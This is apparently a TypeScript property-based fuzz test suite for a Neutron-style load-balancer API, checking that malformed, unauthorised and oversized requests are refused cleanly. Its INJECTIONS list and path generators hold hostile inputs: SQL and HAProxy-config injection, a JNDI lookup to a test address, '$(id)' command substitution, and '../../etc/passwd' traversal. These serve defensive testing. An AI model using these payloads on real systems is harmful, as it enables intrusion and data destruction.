import { makeTestCa, startStack } from '@lbaas/testing';
import Ajv, { type ValidateFunction } from 'ajv';
import addFormats from 'ajv-formats';
import fc from 'fast-check';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  documentedOperations,
  isUuidReference,
  type JsonSchema,
  type Operation,
  pathParameterCollection,
  pathParameters,
  REFERENCES,
} from './documented-routes';
import { type CollectionName, NeutronApi, type NeutronErrorBody } from './neutron-api';
import { createEstate, createPublicNetwork, type Estate } from './tenant-estate';

/**
 * Property-based fuzzing of every documented route with hostile requests: malformed and
 * duplicated-key JSON, wrong types, huge and deeply nested values, unicode, control characters,
 * SQL and HAProxy-config injection, unknown and missing fields, wrong content types, path ids
 * that are not UUIDs, wrong methods, tokens and roles.
 *
 * Every generated write carries a defect that must get it refused (a body its documented schema
 * rejects, a path id that names nothing the caller may see, a reader's or no token, a wrong
 * method, a body over the size limit), so no write may ever be accepted; reads may answer
 * anything but a 5xx. Requests go in batches, and the state (every list as admin and the
 * stream's last sequence) must be the same after a batch as before it. Valid requests with
 * hostile strings are a separate property at the end.
 */

const BATCH = 125;
const BATCHES = 80;
const MIN_REQUESTS = 10_000;
const CONCURRENCY = 8;
/** The documented limit: "Body larger than 1 MiB." answers 413. */
const MAX_BODY_BYTES = 1024 * 1024;

type TokenName = 'demo' | 'other' | 'reader' | 'admin' | 'none' | 'bogus';
/** Why a request must be refused, and so the status it must get; `read` and `route` may be answered. */
type Defect = 'read' | 'route' | 'token' | 'reader' | 'member' | 'method' | 'path id' | 'body' | 'size';

interface FuzzRequest {
  readonly operationId: string;
  readonly defect: Defect;
  readonly method: string;
  readonly path: string;
  readonly token: TokenName;
  readonly contentType: string | null;
  readonly body: Uint8Array | null;
  /** Whether the documented schema accepts the body; a body that fails it is refused with 400 first. */
  readonly bodyValid: boolean;
}

/** JSON text built piece by piece, so a body can hold what JSON.stringify never writes: duplicate keys, 1e999, broken syntax. */
type Json =
  | { readonly kind: 'raw'; readonly text: string }
  | { readonly kind: 'object'; readonly entries: readonly (readonly [string, Json])[] }
  | { readonly kind: 'array'; readonly items: readonly Json[] }
  | { readonly kind: 'value'; readonly value: string | number | boolean | null };

const raw = (text: string): Json => ({ kind: 'raw', text });
const value = (v: string | number | boolean | null): Json => ({ kind: 'value', value: v });
const object = (entries: readonly (readonly [string, Json])[]): Json => ({ kind: 'object', entries });

function jsonText(json: Json): string {
  switch (json.kind) {
    case 'raw':
      return json.text;
    case 'value':
      return JSON.stringify(json.value);
    case 'array':
      return `[${json.items.map(jsonText).join(',')}]`;
    case 'object':
      return `{${json.entries.map(([k, v]) => `${JSON.stringify(k)}:${jsonText(v)}`).join(',')}}`;
  }
}

const INJECTIONS = [
  "' OR '1'='1",
  '1; DROP TABLE pools; --',
  '" OR ""="',
  "') UNION SELECT * FROM checkpoints --",
  '\nbind *:80\n',
  'x\n    server evil 198.18.0.66:80 check',
  '#',
  '# comment',
  'backend evil\n  mode tcp',
  'stats socket /tmp/lbaas.sock level admin',
  'global\n  daemon',
  '\r\nX-Injected: 1',
  'acl evil hdr(host) -i evil',
  '\'"#;\\',
  '${jndi:ldap://198.18.0.66/a}',
  '{{7*7}}',
  '$(id)',
  '`id`',
  '../../etc/passwd',
  '%s%n%x',
  '\u0000',
  '\u001b[31m',
  '\u202e',
  '\ufeff',
  '\ud800',
  'lbaas.events.pool.>',
  '*',
  '>',
  'a.b c',
  'null',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'x'.repeat(256),
];
const CONTROL = fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c));
const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ maxLength: 24 }),
  fc.string({ unit: 'binary', maxLength: 24 }),
  fc.string({ unit: CONTROL, minLength: 1, maxLength: 8 }),
  fc.tuple(fc.constantFrom(...INJECTIONS), fc.string({ unit: 'binary', maxLength: 8 })).map(([a, b]) => a + b),
  fc.integer({ min: 256, max: 4000 }).map((n) => 'é'.repeat(n)),
);
const NUMBERS = [
  '1e999',
  '-1e999',
  '1e-999',
  '123456789012345678901234567890',
  '-0',
  '0.5',
  '65536',
  '-1',
  '2147483648',
  '9007199254740993',
  '0x10',
  'NaN',
  'Infinity',
  '01',
  '+1',
  '.5',
];
const hostileNumber: fc.Arbitrary<Json> = fc.oneof(
  fc.integer().map(value),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map(value),
  fc.constantFrom(...NUMBERS).map(raw),
);
const FIELD_NAMES = [
  'name',
  'id',
  'tenant_id',
  'bind',
  'server',
  'pool',
  'weight',
  '__proto__',
  'constructor',
  'admin_state_up',
  'session_persistence',
];
const hostileKey: fc.Arbitrary<string> = fc.oneof(fc.constantFrom(...FIELD_NAMES), hostileString);

const { hostileJson } = fc.letrec<{ hostileJson: Json }>((tie) => ({
  hostileJson: fc.oneof(
    { depthSize: 'small' },
    hostileString.map(value),
    hostileNumber,
    fc.boolean().map(value),
    fc.constant(value(null)),
    fc.array(tie('hostileJson'), { maxLength: 3 }).map((items): Json => ({ kind: 'array', items })),
    fc.array(fc.tuple(hostileKey, tie('hostileJson')), { maxLength: 3 }).map(object),
    // Deeper than JSON.stringify's stack reaches.
    fc.integer({ min: 3000, max: 20_000 }).map((n) => raw('['.repeat(n) + ']'.repeat(n))),
  ),
}));

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  '*/*',
  'application/json; charset=latin1',
  null,
];
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
/** Percent-encoded for a URL; a lone surrogate, which has no UTF-8 form, goes as U+FFFD like TextEncoder sends it. */
const encoded = (text: string): string => encodeURIComponent(text.replace(/\p{Cs}/gu, '\ufffd'));

describe('fuzzing every route', () => {
  let stack: Awaited<ReturnType<typeof startStack>>;
  let admin: NeutronApi;
  let operations: Operation[];
  let mine: Estate;
  let theirs: Estate;
  let tokens: Record<TokenName, string | null>;
  const envelopes = new Map<string, ValidateFunction>();
  const sentByOperation = new Map<string, number>();
  let sent = 0;
  const caDir = mkdtempSync(join(tmpdir(), 'lbt-fuzz-ca-'));

  beforeAll(async () => {
    const ca = await makeTestCa(caDir);
    stack = await startStack();
    const demo = new NeutronApi(stack.apiUrl, stack.tokens.demo.token);
    admin = demo.as(stack.tokens.admin.token);
    tokens = {
      demo: stack.tokens.demo.token,
      other: stack.tokens.other.token,
      reader: stack.tokens.reader.token,
      admin: stack.tokens.admin.token,
      none: null,
      bogus: 'not-a-token-0123456789abcdef',
    };
    operations = await documentedOperations(demo.as(null));
    // The oracle for "the body is invalid" is the documented schema, checked with the same kind of validator.
    const ajv = new Ajv({ strict: false });
    addFormats(ajv, ['uuid', 'ipv4']);
    for (const op of operations) if (op.body) envelopes.set(op.operationId, ajv.compile(op.body.envelope));
    const publicNet = await createPublicNetwork(admin);
    mine = await createEstate(demo, 'demo', 1, publicNet, await ca.issue(['demo.example.test']));
    theirs = await createEstate(demo.as(stack.tokens.other.token), 'other', 2, publicNet, await ca.issue(['other.example.test']));
  }, 180_000);

  afterAll(async () => {
    await stack?.stop();
    rmSync(caDir, { recursive: true, force: true });
  }, 60_000);

  function bodyValid(op: Operation, body: Uint8Array): boolean {
    const validate = envelopes.get(op.operationId);
    if (!validate) return false;
    let parsed: unknown;
    try {
      // Decoded as the api decodes it: invalid UTF-8 becomes U+FFFD.
      parsed = JSON.parse(Buffer.from(body).toString('utf8'));
    } catch {
      return false;
    }
    return validate(parsed);
  }

  /** An id for a reference to `collection`: the caller's own, another tenant's, or one that names nothing. */
  const someId = (collection: CollectionName | undefined): fc.Arbitrary<string> =>
    collection === undefined ? fc.uuid() : fc.oneof(fc.constant(mine[collection].id), fc.constant(theirs[collection].id), fc.uuid());

  /** Ids that name nothing the demo tenant may see. */
  const missingId = (collection: CollectionName | undefined): fc.Arbitrary<string> =>
    fc.oneof(
      collection === undefined ? fc.uuid() : fc.constant(theirs[collection].id),
      fc.uuid(),
      // Short enough for the request line to stay within Node's header limit; longer ones are a 431 (see `route`).
      // Not a dot segment: a URL parser resolves `vips/.` to the collection, where DELETE is a 405.
      hostileString.filter((s) => s.length > 0 && s.length <= 1000 && s !== '.' && s !== '..').map(encoded),
      fc.constantFrom('*', '%3E', 'a.b', '%20', '%0D%0A', "'%3B--", '.json', 'mypool', '%E2%80%AE'),
    );

  function pathOf(op: Operation, idFor: (collection: CollectionName | undefined) => fc.Arbitrary<string>): fc.Arbitrary<string> {
    const params = pathParameters(op);
    return fc.tuple(...params.map((p) => idFor(pathParameterCollection(op, p)))).map((ids) => {
      let i = 0;
      return op.path.replace(/\{\w+\}/g, () => ids[i++]);
    });
  }

  /** A value the property's schema may well accept: a real id, an allowed literal, a number in range, a hostile but short string. */
  function plausible(name: string, schema: JsonSchema): fc.Arbitrary<Json> {
    if (isUuidReference(schema)) return someId(REFERENCES[name]).map(value);
    const literals = (schema.anyOf ?? []).flatMap((s) => (s.const === undefined ? [] : [s.const]));
    if (literals.length > 0) return fc.constantFrom(...literals).map((l) => value(l as string | number));
    const nested = schema.type === 'object' ? schema : schema.anyOf?.find((s) => s.type === 'object');
    if (nested) return bodyObject(nested, 0);
    if (schema.type === 'integer') return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 }).map(value);
    if (schema.type === 'boolean') return fc.boolean().map(value);
    if (schema.type === 'array') return fc.constant({ kind: 'array', items: [] });
    if (schema.format === 'ipv4') return fc.tuple(fc.nat(255), fc.nat(255)).map(([a, b]) => value(`198.18.${a}.${b}`));
    const examples: Record<string, string> = {
      cidr: '198.18.200.0/24',
      expected_codes: '200,202',
      url_path: '/health',
      tenant_id: 'tenant_1',
    };
    if (name in examples) return fc.constant(value(examples[name]));
    return hostileString.filter((s) => s.length <= (schema.maxLength ?? 255)).map(value);
  }

  /** The properties of an object, each plausible or hostile, some left out, with unknown and duplicated keys now and then. */
  function bodyObject(schema: JsonSchema, unknownWeight: number): fc.Arbitrary<Json> {
    const required = new Set(schema.required ?? []);
    const fields = Object.entries(schema.properties ?? {}).map(([name, property]) =>
      fc.oneof(
        { weight: required.has(name) ? 10 : 5, arbitrary: plausible(name, property).map((v) => [[name, v] as const]) },
        { weight: 2, arbitrary: hostileJson.map((v) => [[name, v] as const]) },
        {
          weight: 1,
          arbitrary: fc
            .tuple(plausible(name, property), hostileJson)
            .map(([first, last]) => [[name, first] as const, [name, last] as const]),
        },
        { weight: required.has(name) ? 1 : 5, arbitrary: fc.constant([]) },
      ),
    );
    const unknown = fc.oneof(
      { weight: 6, arbitrary: fc.constant([]) },
      { weight: unknownWeight, arbitrary: fc.array(fc.tuple(hostileKey, hostileJson), { minLength: 1, maxLength: 2 }) },
    );
    return fc.tuple(fc.tuple(...fields), unknown).map(([chosen, extra]) => object([...chosen.flat(), ...extra]));
  }

  /** Bodies the documented schema rejects: broken JSON, a wrong envelope, or a wrong value inside a right one. */
  function invalidBody(op: Operation & { body: NonNullable<Operation['body']> }): fc.Arbitrary<Uint8Array> {
    const inner = bodyObject(op.body.schema, 2);
    const text = fc.oneof(
      { weight: 6, arbitrary: inner.map((i) => jsonText(object([[op.body.key, i]]))) },
      {
        weight: 1,
        arbitrary: fc.tuple(inner, hostileKey, hostileJson).map(([i, k, v]) =>
          jsonText(
            object([
              [op.body.key, i],
              [k, v],
            ]),
          ),
        ),
      },
      { weight: 1, arbitrary: fc.tuple(inner, hostileKey).map(([i, k]) => jsonText(object([[k, i]]))) },
      { weight: 1, arbitrary: hostileJson.map((v) => jsonText(object([[op.body.key, v]]))) },
      { weight: 1, arbitrary: hostileJson.map(jsonText) },
      {
        weight: 1,
        arbitrary: fc.tuple(inner, fc.nat()).map(([i, cut]) => {
          const t = jsonText(object([[op.body.key, i]]));
          return t.slice(0, cut % t.length);
        }),
      },
      { weight: 1, arbitrary: hostileString },
    );
    return fc
      .oneof({ weight: 9, arbitrary: text.map(bytes) }, { weight: 1, arbitrary: fc.uint8Array({ maxLength: 64 }) })
      .filter((body) => !bodyValid(op, body));
  }

  /** Any body at all, for requests refused for another reason. */
  const anyBody = (op: Operation): fc.Arbitrary<Uint8Array | null> =>
    op.body
      ? fc.oneof(
          bodyObject(op.body.schema, 1).map((i) => bytes(jsonText(object([[op.body?.key ?? '', i]])))),
          invalidBody({ ...op, body: op.body }),
        )
      : fc.constant(null);

  const query: fc.Arbitrary<string> = fc.oneof(
    fc.constant(''),
    fc
      .array(
        fc.tuple(
          fc.oneof(
            fc.constantFrom(
              'name',
              'id',
              'tenant_id',
              'fields',
              'limit',
              'marker',
              'sort_key',
              'sort_dir',
              'page_reverse',
              'protocol_port',
              'weight',
              'admin_state_up',
              'router:external',
              '__proto__',
              'constructor',
              'toString',
            ),
            hostileString,
          ),
          fc.oneof(hostileString, fc.constantFrom('asc', 'desc', 'True', '0', '-1', '1e3', '99999999999', 'id', 'name'), fc.uuid()),
        ),
        { minLength: 1, maxLength: 5 },
      )
      .map((pairs) => `?${pairs.map(([k, v]) => `${encoded(k)}=${encoded(v)}`).join('&')}`),
    fc.constantFrom(
      '?%zz&&=&a=%',
      '?limit=2&marker=',
      '?sort_key=name',
      '?sort_dir=up&sort_key=id',
      '?fields=',
      '?limit=1&page_reverse=True',
    ),
  );

  function readRequest(op: Operation): fc.Arbitrary<FuzzRequest> {
    return fc
      .record({
        path: fc
          .tuple(
            pathOf(op, (c) => fc.oneof(someId(c), missingId(c))),
            query,
          )
          .map(([p, q]) => p + q),
        token: fc.constantFrom<TokenName>('demo', 'other', 'reader', 'admin', 'none', 'bogus'),
      })
      .map(({ path, token }) => ({
        operationId: op.operationId,
        defect: 'read',
        method: 'GET',
        path,
        token,
        contentType: null,
        body: null,
        bodyValid: false,
      }));
  }

  function writeRequest(op: Operation): fc.Arbitrary<FuzzRequest> {
    const allowed = new Set(operations.filter((o) => o.path === op.path).map((o) => o.method));
    const wrongMethods = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'].filter((m) => !allowed.has(m as Operation['method']));
    const base = { operationId: op.operationId, method: op.method as string };
    const request = (defect: Defect, path: fc.Arbitrary<string>, token: fc.Arbitrary<TokenName>, body: fc.Arbitrary<Uint8Array | null>) =>
      fc
        .record({ path, token, body, contentType: fc.constantFrom(...CONTENT_TYPES) })
        .map((r): FuzzRequest => ({ ...base, defect, ...r, bodyValid: r.body !== null && bodyValid(op, r.body) }));
    const ownPath = pathOf(op, someId);
    const defects: fc.WeightedArbitrary<FuzzRequest>[] = [
      { weight: 1, arbitrary: request('token', ownPath, fc.constantFrom<TokenName>('none', 'bogus'), anyBody(op)) },
      { weight: 1, arbitrary: request('reader', ownPath, fc.constant<TokenName>('reader'), anyBody(op)) },
      {
        weight: 1,
        arbitrary: fc
          .tuple(request('method', ownPath, fc.constantFrom<TokenName>('demo', 'admin'), anyBody(op)), fc.constantFrom(...wrongMethods))
          .map(([r, method]) => ({ ...r, method, body: method === 'GET' ? null : r.body })),
      },
    ];
    if (op.adminOnly) {
      // An administrators' write: a member is refused whatever the ids and body; the admin sees every tenant, so only ids naming nothing are a defect.
      defects.push({ weight: 2, arbitrary: request('member', ownPath, fc.constantFrom<TokenName>('demo', 'other'), anyBody(op)) });
      const nothing = (collection: CollectionName | undefined) =>
        fc.oneof(
          fc.uuid(),
          missingId(collection).filter((id) => id !== theirs[collection ?? 'pools'].id),
        );
      if (pathParameters(op).length > 0)
        defects.push({ weight: 3, arbitrary: request('path id', pathOf(op, nothing), fc.constant<TokenName>('admin'), anyBody(op)) });
      if (op.body)
        defects.push({
          weight: 6,
          arbitrary: request('body', ownPath, fc.constant<TokenName>('admin'), invalidBody({ ...op, body: op.body })),
        });
      return fc.oneof(...defects);
    }
    if (pathParameters(op).length > 0)
      defects.push({ weight: 3, arbitrary: request('path id', pathOf(op, missingId), fc.constant<TokenName>('demo'), anyBody(op)) });
    if (op.body)
      defects.push({
        weight: 6,
        arbitrary: request('body', ownPath, fc.constantFrom<TokenName>('demo', 'admin'), invalidBody({ ...op, body: op.body })),
      });
    return fc.oneof(...defects);
  }

  const junkPath: fc.Arbitrary<string> = fc.oneof(
    fc
      .tuple(
        fc.constantFrom('/v2.0/', '/v2.0/lb/', '/', '/v2.0/lb/pools/'),
        fc.array(hostileString.map(encoded), { minLength: 1, maxLength: 3 }),
      )
      .map(([prefix, segments]) => prefix + segments.join('/')),
    fc.constantFrom(
      '//v2.0/lb/pools',
      '/v2.0/lb//pools',
      '/v2.0/lb/pools/../../networks',
      '/v2.0/lb/./pools',
      '/%2e%2e/v2.0',
      '/v2.0/lb/pools%2F',
      '/v2.0/lb/pools;x',
      '/v2.0/lb/pools.xml',
      '/v2.0/lb/pools.json.json',
      '/',
      '/v2.0/extensions/%00',
      '/v2.0/lb/pools/%',
      '/healthz/../v2.0/lb/vips',
    ),
  );
  const malformedText = fc.oneof(hostileString, hostileJson.map(jsonText)).filter((t) => {
    try {
      JSON.parse(t);
      return false;
    } catch {
      return true;
    }
  });
  const junkRequest: fc.Arbitrary<FuzzRequest> = fc
    .record({
      method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'),
      path: fc.tuple(junkPath, query).map(([p, q]) => p + q),
      token: fc.constantFrom<TokenName>('demo', 'admin', 'none'),
      text: malformedText,
      contentType: fc.constantFrom(...CONTENT_TYPES),
    })
    .map(({ method, path, token, text, contentType }) => ({
      operationId: 'junk',
      defect: 'route',
      method,
      path,
      token,
      contentType,
      body: method === 'GET' ? null : bytes(text),
      bodyValid: false,
    }));

  /** A body one byte over the limit, built when sent, so that generated values stay small. */
  const oversize = (op: Operation): FuzzRequest => ({
    operationId: op.operationId,
    defect: 'size',
    method: op.method,
    path: op.path.replace(/\{\w+\}/g, mine.pools.id),
    token: 'demo',
    contentType: 'application/json',
    body: null,
    bodyValid: false,
  });

  function requests(): fc.Arbitrary<FuzzRequest> {
    const perOperation = operations.map((op) => (op.method === 'GET' ? readRequest(op) : writeRequest(op)));
    const sized = operations.filter((op) => op.body).map((op) => fc.constant(oversize(op)));
    return fc.oneof(
      { weight: 200, arbitrary: fc.oneof(...perOperation) },
      { weight: 15, arbitrary: junkRequest },
      { weight: 1, arbitrary: fc.oneof(...sized) },
    );
  }

  async function send(req: FuzzRequest): Promise<{ status: number; text: string; contentType: string | null }> {
    const headers: Record<string, string> = { Accept: 'application/json' };
    const token = tokens[req.token];
    if (token !== null) headers['X-Auth-Token'] = token;
    if (req.contentType !== null) headers['Content-Type'] = req.contentType;
    const body =
      req.defect === 'size' ? bytes(JSON.stringify({ pool: { name: 'big', description: 'x'.repeat(MAX_BODY_BYTES) } })) : req.body;
    const response = await fetch(`${stack.apiUrl}${req.path}`, { method: req.method, headers, body: body ?? undefined });
    sent++;
    sentByOperation.set(req.operationId, (sentByOperation.get(req.operationId) ?? 0) + 1);
    return { status: response.status, text: await response.text(), contentType: response.headers.get('content-type') };
  }

  function expectedStatus(req: FuzzRequest): number | null {
    switch (req.defect) {
      case 'read':
      case 'route':
        return null;
      case 'token':
        return 401;
      case 'reader':
      case 'member':
        return 403;
      case 'method':
        return 405;
      case 'path id':
        return req.body !== null && !req.bodyValid ? 400 : 404;
      case 'body':
        return 400;
      case 'size':
        return 413;
    }
  }

  /** What is wrong with an answer, if anything. */
  function problemWith(req: FuzzRequest, reply: { status: number; text: string; contentType: string | null }): string | null {
    if (reply.status >= 500) return `answered ${reply.status}`;
    const expected = expectedStatus(req);
    if (expected !== null && reply.status !== expected) return `answered ${reply.status}, not ${expected}`;
    if (req.method !== 'GET' && reply.status < 400 && req.defect !== 'route') return `a write with a defect was accepted (${reply.status})`;
    if (req.defect === 'route' && req.method !== 'GET' && reply.status < 400)
      return `a write to a junk path was accepted (${reply.status})`;
    if (reply.status < 400) return null;
    let body: unknown;
    try {
      body = JSON.parse(reply.text);
    } catch {
      return `error body is not JSON: ${reply.text.slice(0, 120)}`;
    }
    const error = (body as Partial<NeutronErrorBody> | null)?.NeutronError;
    const wellFormed =
      error !== undefined &&
      Object.keys(body as object).length === 1 &&
      Object.keys(error).sort().join() === 'detail,message,type' &&
      typeof error.type === 'string' &&
      error.type.length > 0 &&
      typeof error.message === 'string' &&
      error.message.length > 0 &&
      typeof error.detail === 'string';
    if (!wellFormed) return `not a NeutronError: ${reply.text.slice(0, 120)}`;
    if (!reply.contentType?.startsWith('application/json')) return `error with Content-Type ${reply.contentType}`;
    return null;
  }

  const describeRequest = (req: FuzzRequest): string => {
    const body = req.body === null ? '' : ` ${JSON.stringify(Buffer.from(req.body).toString('utf8').slice(0, 160))}`;
    return `${req.defect}: ${req.method} ${req.path.slice(0, 160)} as ${req.token}${body}`;
  };

  async function state(): Promise<unknown> {
    const ready = await admin.as(null).get<{ projections: { streamLastSeq: number } }>('/readyz');
    return { lists: await admin.snapshot(), streamLastSeq: ready.body.projections.streamLastSeq };
  }

  it(`refuses ${MIN_REQUESTS}+ hostile requests in Neutron's error format, never with a 5xx, and changes nothing`, async () => {
    const problems: string[] = [];
    const result = await fc.check(
      fc.asyncProperty(fc.array(requests(), { minLength: BATCH, maxLength: BATCH }), async (batch) => {
        const before = await state();
        const queue = [...batch];
        await Promise.all(
          Array.from({ length: CONCURRENCY }, async () => {
            for (let req = queue.shift(); req !== undefined; req = queue.shift()) {
              const reply = await send(req);
              const problem = problemWith(req, reply);
              if (problem !== null) problems.push(`${describeRequest(req)} -> ${problem}`);
            }
          }),
        );
        const after = await state();
        if (JSON.stringify(after) !== JSON.stringify(before))
          problems.push(`the state changed in a batch of refused requests: ${batch.map(describeRequest).join('\n')}`);
        return problems.length === 0;
      }),
      { numRuns: BATCHES, endOnFailure: true },
    );
    expect({ seed: result.seed, problems: problems.slice(0, 25) }).toEqual({ seed: result.seed, problems: [] });
    expect(sent).toBeGreaterThanOrEqual(MIN_REQUESTS);
    expect(operations.filter((op) => !sentByOperation.has(op.operationId)).map((op) => op.operationId)).toEqual([]);
  });

  it('stores valid names and descriptions with injection, unicode and control characters verbatim', async () => {
    const demo = admin.as(stack.tokens.demo.token);
    const before = await state();
    const text = fc
      .oneof(fc.constantFrom(...INJECTIONS), fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: CONTROL, maxLength: 8 }))
      .filter((s) => s.length <= 255 && !/\p{Cs}/u.test(s)); // a lone surrogate has no UTF-8 form to store
    await fc.assert(
      fc.asyncProperty(text, text, async (name, description) => {
        const created = await demo.post<{ pool: { id: string; name: string; description: string } }>('/v2.0/lb/pools', {
          pool: { name, description, protocol: 'HTTP', lb_method: 'ROUND_ROBIN', subnet_id: mine.subnets.id },
        });
        expect({ status: created.status, name: created.body.pool.name, description: created.body.pool.description }).toEqual({
          status: 201,
          name,
          description,
        });
        const shown = await demo.get<{ pool: { name: string; description: string } }>(`/v2.0/lb/pools/${created.body.pool.id}`);
        expect({ name: shown.body.pool.name, description: shown.body.pool.description }).toEqual({ name, description });
        expect((await demo.delete(`/v2.0/lb/pools/${created.body.pool.id}`)).status).toBe(204);
      }),
      { numRuns: 40 },
    );
    expect(((await state()) as { lists: unknown }).lists).toEqual((before as { lists: unknown }).lists);
  });

  it('leaves the api and the projections answering', async () => {
    for (const url of [`${stack.apiUrl}/healthz`, `${stack.projectionsUrl}/healthz`, `${stack.apiUrl}/readyz`]) {
      expect({ url, status: (await fetch(url)).status }).toEqual({ url, status: 200 });
    }
    expect([stack.services.api.running(), stack.services.projections.running()]).toEqual([true, true]);
  });
});
